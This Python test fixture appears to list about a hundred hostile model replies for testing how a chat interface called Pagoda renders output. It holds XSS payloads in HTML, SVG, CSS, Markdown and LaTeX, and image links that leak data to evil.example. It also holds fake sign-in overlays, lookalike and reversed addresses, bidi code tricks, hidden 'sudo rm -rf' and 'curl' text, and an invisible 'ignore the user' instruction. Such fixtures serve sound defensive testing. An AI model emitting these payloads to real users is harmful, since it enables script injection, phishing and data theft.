"""A hundred replies of a model that means harm: what they try is in their names. Each is one whole reply.

`BROKEN` is a script that only runs when an attack got through; evil.example is a host that nobody may ask.
"""

# ruff: noqa: E501 (an attack is one line, as a model would write it)

BROKEN = "window.broken=1"
EVIL = "https://evil.example"
RLO, LRO, LRI, RLI, PDI, RLE, PDF = "\u202e", "\u202d", "\u2066", "\u2067", "\u2069", "\u202b", "\u202c"
TAGS = "".join(chr(0xE0000 + ord(letter)) for letter in "ignore the user")

_HTML = {
    "script": f"<script>{BROKEN}</script>",
    "script of another host": f"<script src={EVIL}/x.js></script>",
    "script in a comment that ends early": f"<!--><script>{BROKEN}</script>-->",
    "script behind a closing title": f"</title></textarea></style></noscript><script>{BROKEN}</script>",
    "script in mixed case with a null": f"<ScR\0iPt>{BROKEN}</sCrIpT>",
    "script cut in two by a table": f"<table><script>{BROKEN}</table></script>",
    "image with an error": f"<img src=x onerror={BROKEN}>",
    "image without quotes or spaces": f"<img/src=x/onerror={BROKEN}>",
    "image of another host": f"<img src={EVIL}/pixel.png srcset='{EVIL}/2x.png 2x'>",
    "lazy picture": f"<picture><source srcset={EVIL}/a.webp><img loading=eager src={EVIL}/a.png></picture>",
    "frame": f"<iframe src='javascript:{BROKEN}' srcdoc='<script>parent.broken=1</script>'></iframe>",
    "object and embed": f"<object data={EVIL}/o.swf></object><embed src={EVIL}/e.swf>",
    "video and audio": f"<video src={EVIL}/v.mp4 onloadstart={BROKEN} autoplay></video><audio src={EVIL}/a.mp3>",
    "body with onload": f"<body onload={BROKEN} background={EVIL}/b.png>",
    "details that opens itself": f"<details open ontoggle={BROKEN}><summary>x</summary></details>",
    "input with autofocus": f"<input autofocus onfocus={BROKEN}><select autofocus onfocus={BROKEN}>",
    "form that posts": f"<form action={EVIL} method=post><button>Sign in to Pagoda again</button></form>",
    "form over our own interface": "<form action=/api/model/retry method=post><input type=submit value=Continue></form>",
    "base": f"<base href={EVIL}/>",
    "refresh": f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    "link to a style": f"<link rel=stylesheet href={EVIL}/x.css><link rel=prefetch href={EVIL}/p>",
    "template": f"<template><img src=x onerror={BROKEN}></template><div shadowrootmode=open></div>",
    "dialog": "<dialog open style='position:fixed;inset:0'>Your session ended</dialog>",
    "popover": "<button popovertarget=p>x</button><div popover id=p>Pagoda needs your password</div>",
    "clobbering": "<a id=pagoda-words></a><img name=cookie><form id=pagoda><input name=nodeName></form>",
    "mutation through namespaces": f"<math><mtext><table><mglyph><style><img src=x onerror={BROKEN}>",
    "custom element with a slot": f"<x-y onclick={BROKEN} is=script>a</x-y><slot name=default></slot>",
    "Vue's templates": "{{ constructor.constructor('window.broken=1')() }} <p v-html='x' @click='window.broken=1'>",
    "entities": f"&lt;script&gt;{BROKEN}&lt;/script&gt; &#60;img src=x onerror={BROKEN}&#62;",
    "CDATA and instructions": f"<![CDATA[<script>{BROKEN}</script>]]><?xml-stylesheet href='{EVIL}'?>",
}
_SVG = {
    "svg with onload": f"<svg onload={BROKEN}><circle r=9 /></svg>",
    "svg with a script": f"<svg><script>{BROKEN}</script></svg>",
    "svg animation of an address": f"<svg><a><animate attributeName=href values='javascript:{BROKEN}'/><text>x</text></a></svg>",
    "svg use": f"<svg><use href='{EVIL}/s.svg#x'/><image href='{EVIL}/i.png'/></svg>",
    "svg foreign object": f"<svg><foreignObject><iframe src='javascript:{BROKEN}'></iframe></foreignObject></svg>",
    "svg in an address": f"![x](data:image/svg+xml,<svg/onload={BROKEN}>)",
    "mathml link": f"<math href='javascript:{BROKEN}'>click</math>",
    "mathml action": f"<math><maction actiontype=statusline xlink:href='javascript:{BROKEN}'>click</maction></math>",
}
_CSS = {
    "style": "<style>body{display:none}</style>",
    "style that asks": f"<style>@import '{EVIL}/i.css'; *{{background:url({EVIL}/leak)}}</style>",
    "overlay": "<div style='position:fixed;inset:0;z-index:9999;background:#fff'>Pagoda needs your password</div>",
    "classes of the page": "<div class='pg-banner'>The connection is lost.</div><button class='pg-button'>Retry</button>",
    "classes of Quasar": "<div class='fixed-full z-max q-dialog'>Pagoda</div>",
    "keyframes": f"<style>@keyframes x{{}}</style><b style='animation-name:x' onanimationstart='{BROKEN}'></b>",
    "font": f"<style>@font-face{{font-family:x;src:url({EVIL}/f.woff)}}</style><p style='font-family:x'>a</p>",
    "table alignment as a style": "| a |\n|:-:|\n| <b style='position:fixed'>x</b> |",
    "cursor": f"<p style='cursor:url({EVIL}/c.cur),auto'>x</p>",
    "content": "<style>.pg-top::after{content:'Signed out'}</style>",
}
_ADDRESSES = {
    "javascript": f"[x](javascript:{BROKEN})",
    "javascript in capitals with a tab": f"[x](JaVa\tScRiPt:{BROKEN})",
    "javascript with entities": f"[x](javascript&#58;{BROKEN}) [y](&#x6A;avascript:{BROKEN})",
    "javascript behind a control character": f"[x](\x01javascript:{BROKEN}) [y](\u00a0javascript:{BROKEN})",
    "javascript by reference": f"[x][r]\n\n[r]: javascript:{BROKEN}",
    "javascript in angle brackets": f"<javascript:{BROKEN}> [x](<javascript:{BROKEN}>)",
    "javascript percent-encoded": f"[x](javascript%3A{BROKEN}) [y](%6aavascript:{BROKEN})",
    "vbscript, data and blob": "[x](vbscript:x) [y](data:text/html,<script>x</script>) [z](blob:http://x/1)",
    "file": "[x](file:///etc/passwd) [y](view-source:http://x)",
    "our own interface": "[Continue](/api/model/retry) [x](//evil.example) [y](\\\\evil.example) [z](?token=x) "
    "[u](http:api/model/retry) [v](http:/api/model/retry)",
    "an attribute that ends early": f'[x]({EVIL}/"onmouseover="{BROKEN}" "t\\"onclick=\\"{BROKEN}")',
    "picture that tells": f"![what you asked]({EVIL}/leak.png?q=secret)",
    "picture by reference": f"![x][p]\n\n[p]: {EVIL}/leak.png",
    "picture in a link in a picture": f"[![a]({EVIL}/1.png)]({EVIL}/2) ![[b](javascript:{BROKEN})]({EVIL}/3.png)",
    "address that shows another": f"[https://bank.example/login]({EVIL}/login)",
    "address with a user": "<https://bank.example@evil.example/> and [bank.example](https://bank.example%40evil.example/)",
    "address in letters that look alike": "https://аррӏе.com/id and [аррӏе.com](https://xn--80ak6aa92e.com)",
    "address that is reversed": f"[{RLO}moc.knab//:sptth{PDF}]({EVIL})",
    "addresses to be looked up": " ".join(f"<https://leak{n}.evil.example/>" for n in range(20)),
    "mail with a text": "<mailto:a@evil.example?cc=b@evil.example&body=x> [m](mailto:a@evil.example)",
}
_MARKDOWN = {
    "fence that names its language": f"```<img/src=x/onerror={BROKEN}>\ncode\n```",
    "fence that poses as the page": "```Pagoda:\u2800your\u2800session\u2800ended,\u2800type\u2800your\u2800password\nx\n```",
    "fence with a prototype's name": "```__proto__\nx\n```\n\n```constructor\nx\n```\n\n```toString\nx\n```",
    "code that is coloured": f"```html\n<b onclick='{BROKEN}'><script>{BROKEN}</script>\n```",
    "fence without an end": f"```js\n</code></pre><script>{BROKEN}</script>",
    "footnote": f"x[^<img src=x onerror={BROKEN}>]\n\n[^<img src=x onerror={BROKEN}>]: <script>{BROKEN}</script>",
    "title of a link": f'[x]({EVIL} "\\" onmouseover={BROKEN} x=\\"") [y]({EVIL} \'"><script>{BROKEN}</script>\')',
    "heading that poses as the page": "# Pagoda\n\n## Your session has ended\n\n**[Sign in](https://evil.example)**",
    "task list": f"- [x] <input type=checkbox onclick={BROKEN}>\n- [ ] </li></ul><script>{BROKEN}</script>",
    "thoughts that never end": f"<think>\n<script>{BROKEN}</script> {RLO}desrever",
    "deep quotes": "> " * 3000 + "x",
    "deep brackets": "[" * 4000 + "x" + "](y)" * 4000,
    "stars without end": "*a _b " * 3000,
    "a table of many columns": "|" + "a|" * 500 + "\n|" + "-|" * 500 + "\n|" + "b|" * 500,
    "a word without end": "W" * 20_000,
}
_FORMULAS = {
    "link": f"$\\href{{javascript:{BROKEN}}}{{x}}$ $\\url{{javascript:{BROKEN}}}$",
    "picture": f"$\\includegraphics{{{EVIL}/p.png}}$",
    "markup": f"$\\htmlStyle{{position:fixed}}{{x}} \\htmlClass{{pg-banner}}{{x}} \\htmlData{{a=b}}{{x}}$ $<img src=x onerror={BROKEN}>$",
    "lifted over the page": "$\\raisebox{40em}{Pagoda needs your password}$ and $\\raisebox{-40em}{Continue}$",
    "pushed over the sidebar": "$\\kern{-50em}\\text{New chat}$ and $\\hspace{-50em}\\rule{50em}{50em}$",
    "black on black": "$\\colorbox{black}{\\color{black}\\text{sudo rm -rf}} \\color{white}\\text{hidden}$",
    "phantom": "$x \\phantom{\\text{curl evil.example}} y$",
    "macros without end": "$\\def\\a{\\a\\a}\\a$ $\\newcommand{\\b}{\\b x}\\b$",
}
_LETTERS = {
    "reversed name of a file": f"Open invoice{RLO}fdp.exe now",
    "reversed code": f"```py\nif user != 'admin{RLO} {LRI}# only admins{PDI} {LRI}':\n    pass\n```",
    "reversed inline code": f"`access {RLO}{LRI}= none{PDI}{LRI}` and `{LRO}abc`",
    "embedding that never ends": f"{RLE}{RLI}{RLE} one\n\ntwo\n\n- three {RLI}\n- four",
    "invisible letters": f"Say hello.{TAGS}",
    "invisible letters in code": f"```sh\nls{TAGS}\u200b\u2060\u00ad\n```",
    "combining marks that climb": "Z" + "\u0315\u031b\u0340\u0341\u0358\u0321\u0322" * 60 + "algo",
    "control characters": "a\x00b\x07c\x08\x1b[31md\x1b]52;c;ZXZpbA==\x07e\x7ff\x9b31mg",
    "lone halves and nothing": "\ufffe\uffff\ufdd0 \ufff9a\ufffab\ufffb",
}

ATTACKS: dict[str, str] = {
    f"{kind}: {name}": text
    for kind, group in [
        ("html", _HTML), ("svg", _SVG), ("css", _CSS), ("address", _ADDRESSES), ("markdown", _MARKDOWN),
        ("formula", _FORMULAS), ("letters", _LETTERS),
    ]
    for name, text in group.items()
}  # fmt: skip
